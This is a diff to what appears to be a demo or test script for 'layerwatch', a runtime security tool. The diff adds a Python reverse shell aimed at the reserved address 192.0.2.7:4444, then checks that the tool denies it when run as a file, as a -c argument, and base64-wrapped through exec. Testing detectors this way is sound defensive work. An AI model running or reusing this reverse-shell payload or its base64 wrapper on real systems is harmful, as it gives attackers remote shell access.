@@ -85,6 +85,17 @@ make_evil()
 	END
 	sha256sum "$work/evil" "$work/evil.py" >"$work/list.txt"
 	"$build/layerwatch" hashset build -o "$work/list.lwh" "$work/list.txt" >&2
+	# On no list: a reverse shell to an address that nobody has.
+	cat >"$work/unlisted.py" <<-'END'
+		import os, pty, socket
+		s = socket.socket()
+		s.settimeout(1)
+		s.connect(("192.0.2.7", 4444))
+		for n in (0, 1, 2):
+		    os.dup2(s.fileno(), n)
+		pty.spawn("/bin/sh")
+	END
+	payload=$(base64 -w 0 "$work/unlisted.py")
 }
 
 write_policy()
@@ -96,6 +107,7 @@ write_policy()
 		mode: enforce
 		content:
 		  hash_lists: [{name: quickstart, path: $work/list.lwh, verdict: malicious}]
+		  model: $top/conf/layerwatch.model
 		rules:
 		  - name: malicious content
 		    match: {verdict: malicious$ours}
@@ -202,6 +214,13 @@ play()
 	scene "6. A program of the image that was only touched: silent" "chmod 750 /usr/bin/id; /usr/bin/id -u"
 	inside /bin/chmod 750 /usr/bin/id
 	inside /usr/bin/id -u
+	scene "7. A Python script that is on no list: denied by the model" "python3 /tmp/unlisted.py"
+	drop "$work/unlisted.py" /tmp/unlisted.py
+	inside /usr/bin/python3 /tmp/unlisted.py
+	scene "8. The same code in an argument" "python3 -c 'import os, pty, socket; ...'"
+	inside /usr/bin/python3 -c "$(cat "$work/unlisted.py")"
+	scene "9. The same code wrapped in base64" "python3 -c 'import base64; exec(base64.b64decode(...))'"
+	inside /usr/bin/python3 -c "import base64; exec(base64.b64decode('$payload'))"
 	sleep 1
 }
 
